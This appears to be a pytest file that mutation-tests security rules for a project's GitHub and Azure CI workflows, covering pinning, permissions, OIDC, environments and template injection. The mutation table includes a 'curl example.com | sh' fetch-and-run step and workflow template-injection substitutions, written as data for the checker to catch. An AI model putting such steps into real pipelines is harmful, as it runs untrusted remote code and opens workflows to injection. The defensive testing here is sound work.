"""What runs on the forges is what runs here, with no more rights than it needs; a mutation of each rule shows."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from importlib.metadata import PackageNotFoundError, version
from pathlib import Path

import pytest
import yaml

from tests.fixtures.documents.pages import Command
from tests.fixtures.documents.usage import find_usage_faults
from tests.repository.workflow_files import AZURE, GITHUB, ROOT, Workflow, make_targets, read_workflows, steps_of_pr
from tests.repository.workflow_rules import AZURE_RULES, GITHUB_RULES, TRIGGERS, find_script_faults

WORKFLOWS, PIPELINES = read_workflows(GITHUB), read_workflows(AZURE)


def find_faults(workflow: Workflow) -> list[str]:
    rules = GITHUB_RULES if workflow.path.startswith(GITHUB) else AZURE_RULES
    return [fault for rule in rules for fault in rule(workflow)]


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_keeps_the_rules(name: str) -> None:
    assert find_faults(WORKFLOWS[name]) == []


@pytest.mark.parametrize("name", PIPELINES)
def test_a_pipeline_of_azure_keeps_the_rules(name: str) -> None:
    assert find_faults(PIPELINES[name]) == []


def test_both_forges_have_the_same_files() -> None:
    assert set(WORKFLOWS) == set(PIPELINES) == set(TRIGGERS)


@pytest.mark.parametrize(
    ("name", "before", "after", "fault"),
    [
        ("checks.yml", r"actions/checkout@[0-9a-f]{40} # v[\d.]+", "actions/checkout@v7", "not pinned by digest"),
        ("checks.yml", r"(actions/checkout@[0-9a-f]{40}) # v[\d.]+", r"\1", "no comment with its version"),
        ("checks.yml", r"actions/checkout@", "somebody/checkout@", "no action that is used here"),
        ("pull-request.yml", r"workflows/checks.yml", "workflows/gone.yml", "is not there"),
        ("pull-request.yml", r"  pull_request:", "  pull_request_target:", "is started by"),
        ("deploy-prod.yml", r"  workflow_dispatch:", "  push:", "is started by"),
        ("staging.yml", r"permissions: \{\}", "permissions: write-all", "permissions of the file"),
        ("staging.yml", r"permissions: \{\}\n", "", "permissions of the file"),
        ("dependencies.yml", r"    permissions:\n      contents: read\n    steps", "    steps", "states no perm"),
        ("checks.yml", r"contents: read", "contents: write", "may write ['contents']"),
        ("checks.yml", r"contents: read", "contents: read\n      id-token: write", "may write ['id-token']"),
        ("nightly.yml", r"issues: write", "issues: write\n      packages: read", "may read ['packages']"),
        ("staging.yml", r"environment: staging", "environment: prod", "expected staging"),
        ("deploy-prod.yml", r"    environment: prod\n", "", "expected prod"),
        ("nightly.yml", r"TARGET: staging", "TARGET: prod", "acts on prod"),
        ("deploy-prod.yml", r"AUTH_TYPE: github-oidc", "AUTH_TYPE: pat", "does not act by OIDC"),
        ("release.yml", r"TAG: \$\{\{ github.ref_name \}\}", "TAG: ${{ vars.DATABRICKS_HOST }}", "reads settings"),
        ("deploy-prod.yml", r"\$\{\{ github.token \}\}", "${{ secrets.DEPLOY }}", "there is none to keep"),
        ("release.yml", r'"\$TAG" --verify-tag', "${{ github.ref_name }}", "a command has something filled in"),
        ("pull-request.yml", r"pull_request.number", "pull_request.title", "fills in github.event"),
        ("release.yml", r"    timeout-minutes: 30\n", "", "no timeout-minutes"),
        ("release.yml", r"timeout-minutes: 30", "timeout-minutes: 600", "no timeout-minutes"),
        ("dependencies.yml", r"concurrency:\n  group: .+\n  cancel-in-progress: true\n", "", "no concurrency"),
        ("nightly.yml", r"group: staging", "group: nightly", "runs beside others that change staging"),
        ("deploy-prod.yml", r"cancel-in-progress: false", "cancel-in-progress: true", "or is ended by them"),
        ("checks.yml", r"persist-credentials: false", "persist-credentials: true", "the checkout keeps its token"),
        ("pull-request.yml", r"          ref: .+\n", "", "beside code that no person reviewed"),
        ("deploy-prod.yml", r"refs/tags/v", "refs/heads/", "deploys what is no tag"),
        ("deploy-prod.yml", r"run: make rollback", "run: make doctor", "does not undo what failed"),
        ("deploy-prod.yml", r"if: failure\(\) && .+", "if: success()", "does not undo what failed"),
        ("deploy-prod.yml", r"(      - run: make release-verify\n)([\s\S]+make deploy\n)", r"\2\1", "deploys before"),
        ("checks.yml", r"run: make test", "run: make tests", "no target tests"),
        ("checks.yml", r"run: make test", "run: curl example.com | sh", "is no target, script or release"),
        ("staging.yml", r"scripts/post_report.py", "scripts/post.py", "no file scripts/post.py"),
        ("nightly.yml", r"--issue ", "--title ", "has no option --title"),
        ("release.yml", r"run deploy-prod.yml", "run deploy.yml", "no workflow deploy.yml"),
        ("checks.yml", r"run: make test", "run: .ci/run", "names .ci"),
    ],
)
def test_a_breach_of_a_rule_is_found(name: str, before: str, after: str, fault: str) -> None:
    changed, count = re.subn(before, after, WORKFLOWS[name].text, count=1)
    assert count == 1, "nothing was changed"
    found = find_faults(Workflow(WORKFLOWS[name].path, changed))
    assert any(fault in each for each in found), found


@pytest.mark.parametrize(
    ("name", "before", "after", "fault"),
    [
        ("checks.yml", r"    timeoutInMinutes: .+\n", "", "no timeoutInMinutes"),
        ("deploy-prod.yml", r"environment: prod", "environment: staging", "expected prod"),
        ("deploy-prod.yml", r"group: boathouse-prod", "group: boathouse-staging", "settings of another environment"),
        ("nightly.yml", r"TARGET: staging", "TARGET: prod", "settings of another environment"),
        ("staging.yml", r"azure-devops-oidc", "pat", "does not act by OIDC"),
        ("staging.yml", r"lockBehavior: sequential", "lockBehavior: runLatest", "runs beside others"),
        ("deploy-prod.yml", r"refs/tags/v'", "refs/heads/'", "deploys what is no tag"),
        ("deploy-prod.yml", r"condition: failed\(\)", "condition: succeeded()", "does not undo what failed"),
        ("release.yml", r"UsePythonVersion@0", "Somebody@1", "no task that is used here"),
        ("release.yml", r"script: make release", "script: make release TAG=$(Build.SourceBranchName)", "filled in"),
        ("release.yml", r"        persistCredentials: .+\n", "", "keeps its token"),
        ("staging.yml", r"SYSTEM_ACCESSTOKEN: .+", "TOKEN: $(TOKEN)", "is given TOKEN"),
        ("staging.yml", r"SYSTEM_ACCESSTOKEN: .+", "DATABRICKS_CLIENT_SECRET: $(X)", "names a secret"),
        ("checks.yml", r"script: make check", "script: make all", "no target all"),
    ],
)
def test_a_breach_of_a_rule_of_azure_is_found(name: str, before: str, after: str, fault: str) -> None:
    changed, count = re.subn(before, after, PIPELINES[name].text, count=1)
    assert count == 1, "nothing was changed"
    found = find_faults(Workflow(PIPELINES[name].path, changed))
    assert any(fault in each for each in found), found


@pytest.mark.parametrize("workflows", [WORKFLOWS, PIPELINES], ids=["GitHub", "Azure"])
def test_the_checks_are_the_steps_of_make_pr_in_its_order(workflows: dict[str, Workflow]) -> None:
    lines = [line.removeprefix("make ") for _, line in workflows["checks.yml"].commands() if line.startswith("make ")]
    assert lines == ["venv", *steps_of_pr()]
    for name in ("pull-request.yml", "release.yml"):
        assert "checks.yml" in workflows[name].text


@pytest.mark.parametrize("branch", ["main", "dev", "staging", "release/**"])
def test_pull_requests_of_every_branching_pattern_are_checked(branch: str) -> None:
    assert branch in WORKFLOWS["pull-request.yml"].document["on"]["pull_request"]["branches"]
    assert branch.replace("**", "*") in PIPELINES["pull-request.yml"].document["pr"]["branches"]["include"]


def test_the_steps_of_make_pr_leave_nothing_out() -> None:
    assert {"check", "test", "wheel", "bundle-check", "rehearse", "capabilities", "report"} <= set(steps_of_pr())
    assert set(steps_of_pr()) <= make_targets().keys()
    assert "BOATHOUSE_NO_SKIPS=1" in make_targets()["pr"]


@pytest.mark.parametrize("target", make_targets())
def test_what_a_target_calls_exists(target: str) -> None:
    recipe = make_targets()[target].replace("$$target", "staging").replace("$(ARGS)", "").replace("\\\n", " ")
    for line in re.findall(r"\$\(BIN\)/(boathouse [^|&;\n]+)", recipe):
        typed = re.sub(r'"?\$[\w(){}$]+"?', "VALUE", line).strip()
        assert find_usage_faults(Command(f"Makefile: {target}", typed), whole=True) == []
    for script, words in re.findall(r"(?:\$\(BIN\)/python|python3) (scripts/[\w/.]+)([^|&;\n]*)", recipe):
        assert list(find_script_faults(script, words.split())) == []


def test_the_same_action_has_one_digest() -> None:
    digests: dict[str, set[str]] = {}
    for workflow in WORKFLOWS.values():
        for name, digest in re.findall(r"uses: ([\w/-]+)@(\S+ # \S+)", workflow.text):
            digests.setdefault(name, set()).add(digest)
    assert len(digests) == 4
    assert {name: found for name, found in digests.items() if len(found) > 1} == {}


def test_the_protection_names_checks_and_environments_of_the_workflows() -> None:
    protection = yaml.safe_load((ROOT / ".github" / "protection.yml").read_text(encoding="utf-8"))
    calling = WORKFLOWS["pull-request.yml"].job("checks").document["uses"].rpartition("/")[2]
    checks = [f"checks / {job.name}" for job in WORKFLOWS[calling].jobs]
    assert protection["branches"]["main"]["required_checks"] == checks
    used = {job.document.get("environment") for each in WORKFLOWS.values() for job in each.jobs} - {None}
    assert set(protection["environments"]) == used
    assert protection["environments"]["prod"] == {"reviewers": 1, "self_review": False, "from": ["tag v*"]}
    assert protection["branches"]["main"]["approvals"] >= 1


def test_the_owners_are_of_folders_that_exist() -> None:
    lines = (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines()
    patterns = [line.split()[0] for line in lines if line and not line.startswith("#")]
    assert patterns[0] == "*"
    gone = [each for each in patterns[1:] if not list(ROOT.glob(each.strip("/")))]
    assert gone == []


def test_the_template_of_pull_requests_names_targets_that_exist() -> None:
    text = (ROOT / ".github" / "pull_request_template.md").read_text(encoding="utf-8")
    named = set(re.findall(r"`make ([\w-]+)`", text))
    assert named
    assert named <= make_targets().keys()
    assert text.count("- [ ]") >= 2


def find_program(name: str) -> str:
    """Return the program, of this environment or one that BOATHOUSE_LINTERS names; the test is skipped without it."""
    folders = [str(Path(sys.executable).parent), os.environ.get("BOATHOUSE_LINTERS", "")]
    found = shutil.which(name, path=os.pathsep.join(filter(None, folders)))
    try:
        wanted = version(name)
    except PackageNotFoundError:
        wanted = ""
    if not found:
        assert not wanted, f"{name} {wanted} is installed without its program"
        pytest.skip(f"needs {name}: it is pinned in requirements.lock, make venv")
    return found


def lint(*words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([find_program(words[0]), *words[1:]], cwd=ROOT, capture_output=True, text=True, check=False)


def zizmor(path: Path | str) -> subprocess.CompletedProcess[str]:
    return lint("zizmor", "--offline", "--no-progress", "--color=never", str(path))


def test_the_linter_of_workflows_finds_nothing() -> None:
    done = zizmor(".github")
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_linter_of_workflows_finds_an_injection(tmp_path: Path) -> None:
    path = tmp_path / ".github" / "workflows" / "release.yml"
    path.parent.mkdir(parents=True)
    text = WORKFLOWS["release.yml"].text
    path.write_text(text.replace('"$TAG" --verify-tag', "${{ github.ref_name }}"), encoding="utf-8")
    done = zizmor(path)
    assert done.returncode != 0
    assert "template-injection" in done.stdout


SCHEMAS = {
    "vendor.github-workflows": [*(workflow.path for workflow in WORKFLOWS.values())],
    "vendor.azure-pipelines": [*(pipeline.path for pipeline in PIPELINES.values())],
    "vendor.dependabot": [".github/dependabot.yml"],
}


@pytest.mark.parametrize("schema", SCHEMAS)
def test_the_files_have_the_form_that_the_forges_publish(schema: str, tmp_path: Path) -> None:
    # The patterns of one schema are no regular expressions in the strict sense.
    check = ("check-jsonschema", f"--builtin-schema={schema}", "--regex-variant=nonunicode")
    done = lint(*check, *SCHEMAS[schema])
    assert done.returncode == 0, done.stdout
    broken = tmp_path / "broken.yml"
    broken.write_text((ROOT / SCHEMAS[schema][0]).read_text(encoding="utf-8") + "\nsteps: 1\n", encoding="utf-8")
    assert lint(*check, str(broken)).returncode != 0
